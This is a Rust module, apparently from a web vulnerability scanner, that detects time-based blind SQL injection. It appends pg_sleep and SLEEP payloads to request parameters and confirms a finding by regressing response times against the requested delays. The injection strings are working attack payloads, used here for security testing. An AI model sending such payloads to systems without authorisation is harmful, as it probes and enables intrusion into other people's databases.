//! Delays: an answer takes as long as the statement was told to wait, whatever that was. Each waits in
//! a subquery of its own, which a database works out once and not for every row.

use std::time::Duration;

use super::attack::Attack;
use super::boundary::column;
use crate::platform::text::excerpt;
use crate::run::event::{Confidence, Finding};
use crate::security::prober::ProbeError;

/// Delays that are asked for, in seconds: high and low ones in turn.
const DELAYS: [f64; 6] = [2.0, 0.5, 1.5, 0.0, 1.0, 0.25];
/// Share of the longest delay that an answer must take longer than the slowest one without.
const LEAST: f64 = 0.8;
/// How far the slope may be from one second a second.
const SLOPE: f64 = 0.3;
/// How well the answers must follow the delays: Pearson's correlation.
const CORRELATION: f64 = 0.95;

/// A way to make a database wait.
struct Wait {
    database: &'static str,
    /// What is put behind the value; `{}` stands for the seconds.
    attack: &'static str,
}

const IN_TEXT: [Wait; 2] = [
    Wait { database: "PostgreSQL", attack: "' AND (SELECT 1 FROM pg_sleep({}))=1 AND 'a'='a" },
    Wait {
        database: "MySQL",
        attack: "' AND (SELECT 1 FROM (SELECT SLEEP({})) AS w)=1 AND 'a'='a",
    },
];
const IN_NUMBER: [Wait; 2] = [
    Wait { database: "PostgreSQL", attack: " AND (SELECT 1 FROM pg_sleep({}))=1" },
    Wait { database: "MySQL", attack: " AND (SELECT 1 FROM (SELECT SLEEP({})) AS w)=1" },
];

/// Behind a name to sort by, or a direction.
const IN_ORDER: [Wait; 2] = [
    Wait { database: "PostgreSQL", attack: ", (SELECT 1 FROM pg_sleep({}))" },
    Wait { database: "MySQL", attack: ", (SELECT 1 FROM (SELECT SLEEP({})) AS w)" },
];

/// Tries every way; all but the first request only where that one was slow.
pub async fn attack(attack: &Attack<'_>) -> Result<Option<Finding>, ProbeError> {
    let bare = if attack.point.is_numeric() {
        IN_NUMBER.iter()
    } else if column(&attack.point.original).is_some() {
        IN_ORDER.iter()
    } else {
        [].iter()
    };
    for wait in bare.chain(&IN_TEXT) {
        if let Some(finding) = waits(attack, wait).await? {
            return Ok(Some(finding));
        }
    }
    Ok(None)
}

async fn waits(attack: &Attack<'_>, wait: &Wait) -> Result<Option<Finding>, ProbeError> {
    let value = |seconds: f64| {
        format!("{}{}", attack.point.original, wait.attack.replace("{}", &seconds.to_string()))
    };
    let mut taken = Vec::new();
    let mut shown = Vec::new();
    for seconds in DELAYS {
        let sent = value(seconds);
        let answer = attack.ask(&sent).await?;
        let bound = attack.baseline.slowest() + Duration::from_secs_f64(seconds * LEAST);
        if answer.latency < bound && seconds >= 1.0 {
            return Ok(None);
        }
        if shown.len() < 2 {
            let role = if seconds > 1.0 { "attack" } else { "control" };
            shown.push(attack.shown(role, &sent, &answer, ""));
        }
        taken.push((seconds, answer.latency.as_secs_f64()));
    }
    let Some((slope, correlation)) = regression(&taken) else { return Ok(None) };
    if (slope - 1.0).abs() > SLOPE || correlation < CORRELATION {
        return Ok(None);
    }
    let mut finding = attack.finding(Confidence::Confirmed);
    finding.evidence = excerpt(&format!(
        "{} waits as long as it is told to: {slope:.2} s a second over {} delays from 0 to 2 s, \
         correlation {correlation:.3}",
        wait.database,
        DELAYS.len()
    ));
    finding.exchanges = shown;
    Ok(Some(finding))
}

/// Slope of the least squares line, and Pearson's correlation; none when nothing varies.
fn regression(points: &[(f64, f64)]) -> Option<(f64, f64)> {
    let n = points.len() as f64;
    let mean = |of: fn(&(f64, f64)) -> f64| points.iter().map(of).sum::<f64>() / n;
    let (x, y) = (mean(|point| point.0), mean(|point| point.1));
    let (mut xx, mut yy, mut xy) = (0.0, 0.0, 0.0);
    for point in points {
        xx += (point.0 - x).powi(2);
        yy += (point.1 - y).powi(2);
        xy += (point.0 - x) * (point.1 - y);
    }
    (xx > 0.0 && yy > 0.0).then(|| (xy / xx, xy / (xx * yy).sqrt()))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_line_has_its_slope_and_noise_has_no_correlation() {
        let waits: Vec<_> = DELAYS.iter().map(|seconds| (*seconds, seconds + 0.1)).collect();
        let (slope, correlation) = regression(&waits).expect("varies");
        assert!((slope - 1.0).abs() < 1e-9 && correlation > 0.999);
        let noise = [(2.0, 1.0), (0.5, 2.2), (1.5, 0.3), (0.0, 1.9), (1.0, 0.2), (0.25, 1.0)];
        let (_, correlation) = regression(&noise).expect("varies");
        assert!(correlation < CORRELATION);
        assert_eq!(regression(&[(1.0, 1.0), (2.0, 1.0)]), None);
    }

    #[test]
    fn every_wait_is_in_a_subquery_and_cuts_nothing_off() {
        for wait in IN_TEXT.iter().chain(&IN_NUMBER).chain(&IN_ORDER) {
            assert!(wait.attack.contains("(SELECT 1 FROM "), "{}", wait.attack);
            assert!([";", "--", "#", " OR "].iter().all(|cut| !wait.attack.contains(cut)));
        }
    }
}
